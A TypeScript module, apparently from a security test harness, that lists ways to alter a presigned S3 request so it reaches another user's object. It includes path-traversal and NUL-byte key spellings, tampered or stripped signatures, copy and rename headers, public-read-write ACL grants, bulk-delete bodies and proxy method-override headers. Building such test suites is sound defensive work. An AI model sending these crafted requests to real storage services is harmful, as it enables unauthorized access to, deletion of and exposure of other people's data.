import type { Granted, SignedRoute } from "./obtain-grants.ts";
import { encodeKey, encodeSegment, type RawRequest } from "./raw-request.ts";
import type { Scene } from "./scene.ts";

/** One way to use a granted request for something of somebody else's. */
export interface RequestAttack {
  name: string;
  /** Where it is what was granted, since nothing of it is looked at there. */
  harmlessOn?: readonly SignedRoute[];
  /** Changes nothing but headers: harmless where none of them goes on to the store. */
  inHeaders?: true;
  change(granted: Granted, scene: Scene): RawRequest;
}

/** How else the victim's key could be written, so that a signer and a store read two keys. */
const SPELLINGS: Record<string, (key: string, own: string) => string> = {
  "the victim's key, as S3 writes it": (key) => encodeKey(key),
  "the victim's key as one segment": (key) => encodeSegment(key),
  "the victim's key, encoded twice": (key) => encodeKey(encodeKey(key)),
  "the victim's key, encoded three times": (key) => encodeKey(encodeKey(encodeKey(key))),
  "the victim's key in lower-case escapes": (key) =>
    encodeKey(key).replace(/%../g, (escape) => escape.toLowerCase()),
  "the victim's key, every byte escaped": (key) => everyByte(key),
  "the own key, and out of it by ..": (key, own) => `${own}${"/..".repeat(depth(own))}/${encodeKey(key)}`,
  "the own key, and out of it by %2e%2e": (key, own) =>
    `${own}${"/%2e%2e".repeat(depth(own))}/${encodeKey(key)}`,
  "the own key, and out of it by ..%2f": (key, own) =>
    `${own}%2f${"..%2f".repeat(depth(own))}${encodeKey(key)}`,
  "the own key, and out of it by %252e%252e": (key, own) =>
    `${own}${"/%252e%252e".repeat(depth(own))}/${encodeKey(key)}`,
  "the own key, and out of it by backslashes": (key, own) =>
    `${own}${"\\..".repeat(depth(own))}\\${encodeKey(key)}`,
  "the victim's key behind a slash": (key) => `/${encodeKey(key)}`,
  "the victim's key behind a dot": (key) => `./${encodeKey(key)}`,
  "the victim's key with a NUL": (key) => `${encodeKey(key)}%00`,
  "the victim's key, a NUL, and the own one": (key, own) => `${encodeKey(key)}%00${own}`,
  "the victim's key with a slash": (key) => `${encodeKey(key)}/`,
  "the victim's key with parameters": (key) => `${encodeKey(key)};versionId=null`,
  "the victim's key before the own one": (key, own) => `${encodeKey(key)}?/${own}`,
  "the victim's key before the own one, as a fragment": (key, own) => `${encodeKey(key)}#${own}`,
};

const METHODS = ["GET", "HEAD", "PUT", "POST", "DELETE", "PATCH", "COPY"];

/** In the query, at the victim's key. */
const QUERIES: Record<string, (query: string, scene: Scene) => string> = {
  "nothing signed": () => "",
  "no signature": (query) => without(query, "X-Amz-Signature"),
  "only the host signed": (query) => set(query, { "X-Amz-SignedHeaders": "host" }),
  "no headers signed": (query) => set(query, { "X-Amz-SignedHeaders": "" }),
  "another algorithm": (query) => set(query, { "X-Amz-Algorithm": "none" }),
  "an empty signature": (query) => set(query, { "X-Amz-Signature": "" }),
  "a signature of zeros": (query) => set(query, { "X-Amz-Signature": "0".repeat(64) }),
  "the signature twice": (query) => `${query}&${/X-Amz-Signature=[^&]*/.exec(query)?.[0]}`,
  "a longer life": (query) => set(query, { "X-Amz-Expires": "604800" }),
  "the victim's version": (query, { victim }) => set(query, { versionId: victim.versionId }),
  "the victim's upload": (query, { victim }) => set(query, { uploadId: victim.uploadId, partNumber: "1" }),
  "the access list": (query) => set(query, { acl: "" }),
  "the tags": (query) => set(query, { tagging: "" }),
  "its uploads": (query) => set(query, { uploads: "" }),
  "its attributes": (query) => set(query, { attributes: "" }),
  "a restoration": (query) => set(query, { restore: "" }),
};

/** In the headers, at the own key. */
const HEADERS: Record<string, (scene: Scene) => Record<string, string>> = {
  "a copy of the victim's object": ({ api, victim }) => ({
    "x-amz-copy-source": `/${api.direct.bucket}/${encodeKey(victim.key)}`,
  }),
  "a copy of the victim's version": ({ api, victim }) => ({
    "x-amz-copy-source": `${api.direct.bucket}/${encodeKey(victim.key)}?versionId=${victim.versionId}`,
    "x-amz-copy-source-range": "bytes=0-47",
  }),
  "the victim's object renamed": ({ victim }) => ({ "x-amz-rename-source": encodeKey(victim.key) }),
  "an access list for all": () => ({ "x-amz-acl": "public-read-write" }),
  "a grant for all": () => ({
    "x-amz-grant-full-control": 'uri="http://acs.amazonaws.com/groups/global/AllUsers"',
  }),
  "a redirect": ({ victim }) => ({ "x-amz-website-redirect-location": `/${encodeKey(victim.key)}` }),
  "the victim's tags": () => ({ "x-amz-tagging": "a=b" }),
  "another owner": () => ({ "x-amz-expected-bucket-owner": "000000000000" }),
};

/** Headers that servers of other kinds read a path or a method from. */
const OVERRIDES: Record<string, (path: string) => Record<string, string>> = {
  "another path for a proxy": (path) => ({ "x-original-url": path, "x-rewrite-url": path }),
  "a forwarded path": (path) => ({ "x-forwarded-prefix": path, "x-forwarded-uri": path }),
  "another method": () => ({ "x-http-method-override": "DELETE", "x-method-override": "DELETE" }),
};

export const REQUEST_ATTACKS: readonly RequestAttack[] = [
  ...Object.entries(SPELLINGS).map(([name, spell]): RequestAttack => ({
    name,
    change: (granted, { victim }) => at(granted, spell(victim.key, granted.encode(granted.key))),
  })),
  ...METHODS.map((method): RequestAttack => ({
    name: `${method} of the victim's key`,
    change: (granted, { victim }) => ({ ...at(granted, granted.encode(victim.key)), method }),
  })),
  ...Object.entries(QUERIES).map(([name, change]): RequestAttack => ({
    name: `the victim's key with ${name}`,
    change: (granted, scene) =>
      withQuery(at(granted, granted.encode(scene.victim.key)), (query) => change(query, scene)),
  })),
  {
    name: "a list of the victim's prefix",
    change: (granted, { victim }) => ({
      ...withQuery(at(granted, ""), (query) => set(query, { "list-type": "2", prefix: victim.prefix })),
      method: "GET",
      body: undefined,
    }),
  },
  {
    name: "the victim's object among many to delete",
    change: (granted, { victim }) => ({
      ...withQuery(at(granted, ""), (query) => set(query, { delete: "" })),
      method: "POST",
      body: `<Delete><Object><Key>${victim.key.replace(/[<>&]/g, "")}</Key></Object></Delete>`,
    }),
  },
  {
    name: "the victim's part replaced",
    change: (granted, { victim }) =>
      withQuery(at(granted, granted.encode(victim.uploadKey)), (query) =>
        set(query, { uploadId: victim.uploadId, partNumber: "1" }),
      ),
  },
  {
    name: "the victim's upload completed",
    change: (granted, { victim }) => ({
      ...withQuery(at(granted, granted.encode(victim.uploadKey)), (query) =>
        set(query, { uploadId: victim.uploadId }),
      ),
      method: "POST",
      body: "<CompleteMultipartUpload/>",
    }),
  },
  ...Object.entries(HEADERS).map(([name, headers]): RequestAttack => ({
    name: `the own key with ${name}`,
    inHeaders: true,
    change: ({ request }, scene) => ({ ...request, headers: { ...request.headers, ...headers(scene) } }),
  })),
  {
    name: "the own key with a second signature",
    harmlessOn: ["lambda", "apigateway", "cloudfront"],
    change: ({ request }) => ({
      ...request,
      headers: { ...request.headers, authorization: "AWS4-HMAC-SHA256 Credential=a/b/c/s3/aws4_request" },
    }),
  },
  ...Object.entries(OVERRIDES).map(([name, headers]): RequestAttack => ({
    name: `the victim's key with ${name}`,
    change: (granted, { victim }) => {
      const changed = at(granted, granted.encode(victim.key));
      return { ...changed, headers: { ...changed.headers, ...headers(granted.request.path) } };
    },
  })),
];

/** The same request for another key, however that is written. */
function at({ request, key: own, encode }: Granted, key: string): RawRequest {
  return { ...request, path: request.path.replace(encode(own), () => key) };
}

function withQuery(request: RawRequest, change: (query: string) => string): RawRequest {
  const [path = "", query = ""] = request.path.split("?", 2);
  return { ...request, path: `${path}?${change(query)}` };
}

/** The rest of the query stays as it was, letter by letter. */
function set(query: string, values: Record<string, string>): string {
  const added = Object.entries(values).map(([name, value]) => `${name}=${encodeSegment(value)}`);
  return [without(query, ...Object.keys(values)), ...added].join("&");
}

function without(query: string, ...names: string[]): string {
  return query
    .split("&")
    .filter((pair) => !names.some((name) => pair.startsWith(`${name}=`)))
    .join("&");
}

function everyByte(key: string): string {
  return Array.from(new TextEncoder().encode(key), (byte) =>
    byte === 0x2f ? "/" : `%${byte.toString(16).toUpperCase().padStart(2, "0")}`,
  ).join("");
}

function depth(path: string): number {
  return path.split("/").length;
}
